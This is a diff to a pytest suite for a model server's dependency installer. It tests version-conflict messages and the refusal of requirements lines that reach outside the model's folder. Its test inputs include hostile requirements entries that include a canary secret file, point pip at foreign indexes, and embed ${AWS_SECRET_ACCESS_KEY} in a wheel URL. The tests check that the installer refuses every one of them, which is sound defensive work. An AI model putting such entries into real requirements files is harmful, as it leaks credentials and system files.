@@ -254,16 +254,22 @@ def _installed(name: str) -> bool:
         return False
 
 
-def test_an_imported_package_is_pinned_so_a_conflict_is_pips_clear_message(models_root, deps_settings):
+def test_an_imported_package_is_pinned_so_a_conflict_fails_clearly(models_root, deps_settings):
     from importlib import metadata
 
     base_numpy = metadata.version("numpy")
+    # asked for directly: refused in our words before pip
     model = model_with_requirements(models_root, "m1", "numpy==0.0.1\n")
     build_wheel(model / "code" / "wheels", "numpy", "0.0.1")
-    with pytest.raises(DependencyInstallError) as raised:
+    with pytest.raises(DependencyInstallError, match=r"asks for numpy==0\.0\.1, but numpy \S+ is already loaded"):
         requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
-    # numpy is already imported in a model process: a second copy would be shadowed, so pip is told to keep it
-    assert "numpy==0.0.1" in str(raised.value) and "(constraint) numpy==" in str(raised.value)
+    # asked for by a dependency: pip is told to keep it (its constraints file), fails, and we say why
+    model = model_with_requirements(models_root, "m2", "tmmedep==1.0\n", {"numpy": "0.0.1"})
+    build_wheel(model / "code" / "wheels", "tmmedep", "1.0", requires=("numpy==0.0.1",))
+    with pytest.raises(DependencyInstallError) as raised:
+        requirements.ensure_installed(str(model / "code"), deps_settings, "m2")
+    # numpy is already imported in a model process: a second copy would be shadowed
+    assert "numpy" in str(raised.value) and "stay at their installed versions" in str(raised.value)
     assert metadata.version("numpy") == base_numpy
 
 
@@ -324,6 +330,23 @@ def test_the_index_is_tried_after_the_local_wheels_unless_it_is_off(models_root,
     assert len(pip_calls) == 3
     assert "--no-index" in pip_calls.commands[1] and "--index-url" in pip_calls.commands[2]
     assert "--find-links" in pip_calls.commands[2]
+
+
+def test_the_index_is_tried_whatever_pip_says_when_the_local_wheels_fail(models_root, deps_settings, monkeypatch):
+    """The retry used to depend on pip's wording ('No matching distribution found', ...)."""
+    calls: list[list[str]] = []
+
+    def pip_in_other_words(command, cwd, deadline):
+        calls.append(command)
+        return 1, "ERROR: pip put it differently this time\n"
+
+    monkeypatch.setattr(requirements, "_run", pip_in_other_words)
+    model = model_with_requirements(models_root, "m1", f"{MISSING}\n", {"tmmepkg": "1.0"})
+    with pytest.raises(DependencyInstallError, match="pip put it differently"):
+        requirements.ensure_installed(
+            str(model / "code"), deps_settings.with_overrides(pip_index="https://example.invalid/simple"), "m1"
+        )
+    assert len(calls) == 2 and "--no-index" in calls[0] and "--index-url" in calls[1]
 
 
 def test_concurrent_loads_with_the_same_requirements_install_once(models_root, deps_settings, pip_calls):
@@ -450,3 +473,120 @@ def test_the_handler_fails_the_load_with_pips_reason(models, make_context, deps_
     model = models.dir("broken", {"code/inference.py": VERSION_SCRIPT, "code/requirements.txt": f"{MISSING}\n"})
     with pytest.raises(DependencyInstallError, match=f"No matching distribution found for {MISSING}"):
         PyTorchHandler(settings=deps_settings).initialize(make_context(model))
+
+
+def test_a_pinned_version_conflict_is_refused_in_our_own_words_before_pip(models_root, deps_settings, pip_calls):
+    # pip's message changes between its versions and with the constraints its own configuration adds
+    # (this machine's global pip.conf caps torch, which made pip word the conflict differently)
+    model = model_with_requirements(models_root, "m1", "torch==1.0.0\n")
+    with pytest.raises(DependencyInstallError, match=r"asks for torch==1\.0\.0, but torch \S+ is already loaded"):
+        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
+    assert len(pip_calls) == 0
+
+
+# what a model's requirements may name: nothing outside its code/ folder, no other package source
+
+SECRET = "root:TORCH-MME-CANARY-7f3a91:0:0:secret"
+
+
+@pytest.fixture
+def canary(tmp_path: Path) -> Path:
+    """A file outside every model holding a secret (and a folder beside it), as /etc/shadow would be."""
+    folder = tmp_path / "outside"
+    folder.mkdir()
+    secret = folder / "shadow"
+    secret.write_text(f"{SECRET}\nTORCH-MME-CANARY-PKG==1.0\n")
+    build_wheel(folder, "tmmepkg", "1.0")
+    return secret
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "-r {secret}",
+        "--requirement {secret}",
+        "--requirement={secret}",
+        "--req {secret}",  # optparse takes an unambiguous prefix of a long option
+        "-r{secret}",
+        "-c {secret}",
+        "--constraint={secret}",
+        "-r ../../outside/shadow",
+        "-r file://{secret}",
+        "-r file:{secret}",  # a URL to pip, whatever code/ holds
+        "-r https://example.invalid/requirements.txt",
+        "{secret}",
+        "tmmepkg @ file://{secret}",
+        "git+file:{folder}#egg=tmmepkg",
+        "-f ftp:wheels",
+        "-e {folder}",
+        "--find-links {folder}",
+        "-f file://{folder}",
+        "-f https://example.invalid/wheels/",
+        "--index-url https://example.invalid/simple",
+        "-i https://example.invalid/simple",
+        "--extra-index-url https://example.invalid/simple",
+        "--trusted-host example.invalid",
+        "tmmepkg @ https://example.invalid/${{AWS_SECRET_ACCESS_KEY}}.whl",
+        "tmmepkg==1.0 --global-option=--verbose",
+        "--use-feature=truststore",
+    ],
+)
+def test_requirements_naming_outside_files_or_package_sources_are_refused(
+    models_root, deps_settings, pip_calls, canary, caplog, line
+):
+    text = "tmmepkg==1.0\n" + line.format(secret=canary, folder=canary.parent) + "\n"
+    model = model_with_requirements(models_root, "m1", text, {"tmmepkg": "1.0"})
+
+    with pytest.raises(DependencyInstallError) as caught:
+        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
+
+    message = str(caught.value)
+    assert "code/requirements.txt line 2" in message
+    assert "CANARY" not in message.replace(str(canary), "") and "secret" not in message
+    assert "CANARY-7f3a91" not in caplog.text
+    assert len(pip_calls) == 0  # refused before pip or the key read anything
+    assert folders(deps_settings.deps_dir) == []
+
+
+def test_an_included_file_inside_code_may_not_include_one_outside(models_root, deps_settings, pip_calls, canary):
+    model = model_with_requirements(models_root, "m1", "-r base.txt\n")
+    (model / "code" / "base.txt").write_text(f"tmmepkg==1.0\n-c {canary}\n")
+    with pytest.raises(DependencyInstallError, match="code/base.txt line 2") as caught:
+        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
+    assert "CANARY" not in str(caught.value)
+    assert len(pip_calls) == 0
+
+
+def test_a_file_url_include_is_refused_even_when_code_holds_that_path(models_root, deps_settings, pip_calls, canary):
+    model = model_with_requirements(models_root, "m1", f"-r file:{canary}\n")
+    shadow = model / "code" / f"file:{canary}"  # code/file:/tmp/.../shadow: a harmless file inside code/
+    shadow.parent.mkdir(parents=True)
+    shadow.write_text("tmmepkg==1.0\n")
+    with pytest.raises(DependencyInstallError, match="not a URL") as caught:
+        requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
+    assert "CANARY" not in str(caught.value)
+    assert len(pip_calls) == 0
+
+
+def test_a_requirements_file_that_is_a_symlink_out_of_code_is_refused(models_root, deps_settings, pip_calls, canary):
+    code = models_root / "m1" / "code"
+    code.mkdir(parents=True)
+    (code / "requirements.txt").symlink_to(canary)
+    with pytest.raises(DependencyInstallError, match="is not a file inside the model's code/ folder") as caught:
+        requirements.ensure_installed(str(code), deps_settings, "m1")
+    assert "CANARY" not in str(caught.value)
+    assert len(pip_calls) == 0
+
+
+def test_local_sources_inside_code_are_still_allowed(models_root, deps_settings):
+    model = model_with_requirements(
+        models_root,
+        "m1",
+        "# shipped with the model\n-r base.txt\n--find-links ./extra\n--no-index\n--prefer-binary\n",
+    )
+    (model / "code" / "base.txt").write_text("tmmepkg==2.0 \\\n  --hash=sha256:0\n")
+    build_wheel(model / "code" / "extra", "tmmepkg", "2.0")
+    requirements.check_requirements(str(model / "code"))
+    (model / "code" / "base.txt").write_text("tmmepkg==2.0\n")
+    deps = requirements.ensure_installed(str(model / "code"), deps_settings, "m1")
+    assert os.path.isdir(os.path.join(deps.site_packages, "tmmepkg-2.0.dist-info"))
